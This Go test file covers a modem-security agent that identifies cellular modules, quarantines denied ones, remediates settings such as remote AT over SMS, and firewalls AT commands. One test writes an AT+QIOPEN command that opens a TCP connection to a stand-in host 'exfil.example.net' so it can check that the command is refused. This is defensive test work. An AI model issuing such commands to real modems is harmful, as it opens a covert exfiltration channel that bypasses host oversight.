package agent

import (
	"context"
	"errors"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/modemguard/modemguard/atcmd"
	"github.com/modemguard/modemguard/atcmd/atcmdtest"
	"github.com/modemguard/modemguard/modem"
	"github.com/modemguard/modemguard/policy"
	"github.com/modemguard/modemguard/simulator"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// bench is a gateway's USB port with a simulated module plugged into it;
// plug swaps the module, as a technician would.
type bench struct {
	t   *testing.T
	mu  sync.Mutex
	sim *simulator.Modem

	states chan ModuleState
	evMu   sync.Mutex
	events []Event
	host   uint64
}

func newBench(t *testing.T, profile string, opts simulator.Options) *bench {
	b := &bench{t: t, states: make(chan ModuleState, 100)}
	b.plug(profile, opts)
	t.Cleanup(func() {
		b.mu.Lock()
		defer b.mu.Unlock()
		if b.sim != nil {
			b.sim.Close()
		}
	})
	return b
}

func (b *bench) plug(profile string, opts simulator.Options) *simulator.Modem {
	p, err := simulator.LoadProfile(profile)
	if err != nil {
		b.t.Fatal(err)
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.sim != nil {
		b.sim.Close() // unplugged: the host's end of the port fails
	}
	b.sim = simulator.New(p, opts)
	return b.sim
}

func (b *bench) current() *simulator.Modem {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.sim
}

func (b *bench) open(path string, baud int) (io.ReadWriteCloser, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.sim == nil {
		return nil, errors.New("no such port")
	}
	return b.sim.Pipe(), nil
}

func (b *bench) deps(pol *policy.Policy) workerDeps {
	return workerDeps{
		log:      slog.New(slog.DiscardHandler),
		registry: modem.DefaultRegistry(),
		open:     b.open,
		discover: func() ([]modem.Candidate, error) { return nil, nil },
		policy:   func() *policy.Policy { return pol },
		publish: func(s ModuleState, ev []Event) {
			b.evMu.Lock()
			b.events = append(b.events, ev...)
			b.evMu.Unlock()
			b.states <- s
		},
		hostBytes: func() (uint64, bool) { return b.host, true },
		interval:  func() time.Duration { return 50 * time.Millisecond },
	}
}

// waitState waits for a published state that satisfies ok.
func (b *bench) waitState(what string, ok func(ModuleState) bool) ModuleState {
	b.t.Helper()
	deadline := time.After(20 * time.Second)
	for {
		select {
		case s := <-b.states:
			if ok(s) {
				return s
			}
		case <-deadline:
			b.t.Fatalf("waited 20s for %s", what)
		}
	}
}

func (b *bench) hasEvent(kind string) bool {
	b.evMu.Lock()
	defer b.evMu.Unlock()
	return slices.ContainsFunc(b.events, func(e Event) bool { return e.Kind == kind })
}

func mustPolicy(t *testing.T, src string) *policy.Policy {
	t.Helper()
	p, err := policy.Parse("test-policy.yaml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func startWorker(t *testing.T, w *worker) {
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		w.run(ctx)
	}()
	t.Cleanup(func() {
		cancel()
		<-done
	})
}

func TestWorkerIdentifiesAndNoticesSwap(t *testing.T) {
	b := newBench(t, "quectel-ec25", simulator.Options{Seed: 1})
	w := newWorker(0, ModemConfig{Port: "/dev/ttyUSB2", Baud: 115200}, b.deps(mustPolicy(t, "version: 1\n")))
	startWorker(t, w)
	s := b.waitState("the EC25", func(s ModuleState) bool { return s.Up && s.Module.Vendor == "quectel" })
	if s.Verdict.Action != policy.Allow || s.Enforcement != EnforceNone {
		t.Errorf("verdict %v enforcement %s", s.Verdict.Action, s.Enforcement)
	}
	imei := s.Module.IMEI

	b.plug("simcom-sim7600", simulator.Options{Seed: 2})
	s = b.waitState("the swapped-in SIM7600", func(s ModuleState) bool { return s.Up && s.Module.Vendor == "simcom" })
	if !slices.ContainsFunc(s.Module.Findings, func(f modem.Finding) bool {
		return f.ID == "module-swapped" && strings.Contains(f.Detail, imei)
	}) {
		t.Errorf("no module-swapped finding naming the old IMEI: %+v", s.Module.Findings)
	}
	for _, k := range []string{EventModuleLost, EventModuleSwapped} {
		if !b.hasEvent(k) {
			t.Errorf("no %s event", k)
		}
	}
}

// TestWorkerQuarantineSurvivesReboot denies a covered-list module: the
// radio goes off, and after the module reboots it goes off again.
func TestWorkerQuarantineSurvivesReboot(t *testing.T) {
	b := newBench(t, "huawei-me909s", simulator.Options{Seed: 3})
	pol := mustPolicy(t, `version: 1
modules:
  default: allow
  rules:
    - id: covered-list
      when: {lists: [fcc-covered]}
      action: deny
on_deny: quarantine
`)
	w := newWorker(0, ModemConfig{Port: "/dev/ttyUSB0", Baud: 115200}, b.deps(pol))
	startWorker(t, w)
	b.waitState("quarantine", func(s ModuleState) bool { return s.Up && s.Enforcement == EnforceQuarantined })
	sim := b.current()
	count := func() int {
		n := 0
		for _, l := range sim.Received() {
			if l == "AT+CFUN=4" {
				n++
			}
		}
		return n
	}
	before := count()
	if before == 0 {
		t.Fatal("AT+CFUN=4 never reached the module")
	}
	sim.Reboot()
	deadline := time.Now().Add(20 * time.Second)
	for count() <= before || !b.hasEvent(EventModuleReset) {
		if time.Now().After(deadline) {
			t.Fatalf("after the reboot: CFUN=4 sent %d times (before %d), reset event %v", count(), before, b.hasEvent(EventModuleReset))
		}
		time.Sleep(10 * time.Millisecond) // the worker runs on its own goroutine; poll with a deadline
	}
}

func TestWorkerModuleOwnTraffic(t *testing.T) {
	b := newBench(t, "quectel-ec25", simulator.Options{Seed: 4})
	w := newWorker(0, ModemConfig{Port: "/dev/ttyUSB2", Baud: 115200}, b.deps(mustPolicy(t, "version: 1\n")))
	startWorker(t, w)
	b.waitState("first identification", func(s ModuleState) bool { return s.Up })
	b.current().StackSend(50000, 100) // the module's own stack sends; the host saw none of it
	s := b.waitState("the reconciliation finding", func(s ModuleState) bool {
		return s.Module != nil && slices.ContainsFunc(s.Module.Findings, func(f modem.Finding) bool { return f.ID == "module-own-traffic" })
	})
	if s.Module == nil {
		t.Fatal("no module")
	}
}

// TestWorkerProxy serves the firewall pty and refuses a module-internal
// connection; the refusal becomes an event at once.
func TestWorkerProxy(t *testing.T) {
	b := newBench(t, "quectel-ec25", simulator.Options{Seed: 5})
	pol := mustPolicy(t, "version: 1\nmodule_stack:\n  default: deny\n")
	link := filepath.Join(t.TempDir(), "ttyAT0")
	w := newWorker(0, ModemConfig{Port: "/dev/ttyUSB2", Baud: 115200, ProxyLink: link}, b.deps(pol))
	startWorker(t, w)
	b.waitState("the module behind the proxy", func(s ModuleState) bool { return s.Up })
	f, err := os.OpenFile(link, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.Write([]byte("AT+QIOPEN=1,0,\"TCP\",\"exfil.example.net\",443,0,1\r")); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(20 * time.Second)
	for !b.hasEvent(EventATFirewall) {
		if time.Now().After(deadline) {
			t.Fatal("no at-firewall event")
		}
		time.Sleep(10 * time.Millisecond)
	}
	for _, l := range b.current().Received() {
		if strings.Contains(l, "exfil") {
			t.Fatalf("refused line reached the module: %q", l)
		}
	}
}

func TestWorkerRemediates(t *testing.T) {
	b := newBench(t, "telit-le910c1", simulator.Options{Seed: 6})
	// A vendor tool left remote AT over SMS on, persistently.
	conn := atcmd.New(b.current().Pipe(), atcmd.Config{})
	ctx := context.Background()
	if err := conn.Sync(ctx); err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Command(ctx, "AT#SMSATRUN=1"); err != nil {
		t.Fatal(err)
	}
	conn.Close()
	w := newWorker(0, ModemConfig{Port: "/dev/ttyUSB0", Baud: 115200}, b.deps(mustPolicy(t, "version: 1\nremediate: true\n")))
	startWorker(t, w)
	b.waitState("the remediated module", func(s ModuleState) bool { return s.Up })
	if !b.hasEvent(EventSettingOff) {
		t.Fatal("no setting-remediated event")
	}
	if v, _ := b.current().Setting("smsatrun"); v != "0" {
		t.Errorf("smsatrun is %q in the module after remediation", v)
	}
}

// TestWorkerProxyKeepsQuarantine: software behind the firewall cannot
// switch a quarantined module's radio back on.
func TestWorkerProxyKeepsQuarantine(t *testing.T) {
	b := newBench(t, "huawei-me909s", simulator.Options{Seed: 7})
	pol := mustPolicy(t, "version: 1\nmodules:\n  default: deny\non_deny: quarantine\n")
	link := filepath.Join(t.TempDir(), "ttyAT0")
	w := newWorker(0, ModemConfig{Port: "/dev/ttyUSB0", Baud: 115200, ProxyLink: link}, b.deps(pol))
	startWorker(t, w)
	b.waitState("quarantine", func(s ModuleState) bool { return s.Up && s.Enforcement == EnforceQuarantined })
	f, err := os.OpenFile(link, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.Write([]byte("AT+CFUN=1\r")); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(20 * time.Second)
	for !b.hasEvent(EventATFirewall) {
		if time.Now().After(deadline) {
			t.Fatal("AT+CFUN=1 was not refused")
		}
		time.Sleep(10 * time.Millisecond)
	}
	for _, l := range b.current().Received() {
		if l == "AT+CFUN=1" {
			t.Fatal("AT+CFUN=1 reached the quarantined module")
		}
	}
}

// TestWorkerEnforcementRefused: a module that refuses AT+CFUN=4 is
// reported as enforcement-failed with a finding, never as quarantined.
func TestWorkerEnforcementRefused(t *testing.T) {
	answers := map[string]string{"AT": "\r\nOK\r\n", "ATE0": "\r\nOK\r\n", "ATV1": "\r\nOK\r\n", "AT+CMEE=1": "\r\nOK\r\n",
		"AT+CGMI": "\r\nAcme\r\n\r\nOK\r\n", "AT+CGMM": "\r\nX1\r\n\r\nOK\r\n", "AT+CGMR": "\r\n1.0\r\n\r\nOK\r\n",
		"AT+CGSN": "\r\n353465070085319\r\n\r\nOK\r\n", "AT+CFUN=4": "\r\n+CME ERROR: 3\r\n", "AT+CFUN?": "\r\n+CFUN: 1\r\n\r\nOK\r\n"}
	fake := atcmdtest.ScriptFunc(func(line string) []byte {
		if a, ok := answers[line]; ok {
			return []byte(a)
		}
		return []byte("\r\nERROR\r\n")
	})
	states := make(chan ModuleState, 10)
	deps := workerDeps{
		log: slog.New(slog.DiscardHandler), registry: modem.DefaultRegistry(),
		open: func(string, int) (io.ReadWriteCloser, error) {
			return atcmdtest.NewModem(fake, atcmdtest.ModemOptions{}), nil
		},
		discover: func() ([]modem.Candidate, error) { return nil, nil },
		policy: func() *policy.Policy {
			return mustPolicy(t, "version: 1\nmodules:\n  default: deny\non_deny: quarantine\n")
		},
		publish:   func(s ModuleState, _ []Event) { states <- s },
		hostBytes: func() (uint64, bool) { return 0, false },
		interval:  func() time.Duration { return time.Hour },
	}
	startWorker(t, newWorker(0, ModemConfig{Port: "/dev/fake", Baud: 115200}, deps))
	select {
	case s := <-states:
		if s.Enforcement != EnforceFailed {
			t.Fatalf("enforcement %q, want %q", s.Enforcement, EnforceFailed)
		}
		if !slices.ContainsFunc(s.Module.Findings, func(f modem.Finding) bool { return f.ID == "enforcement-failed" }) {
			t.Errorf("no enforcement-failed finding: %+v", s.Module.Findings)
		}
	case <-time.After(20 * time.Second):
		t.Fatal("no state published")
	}
}
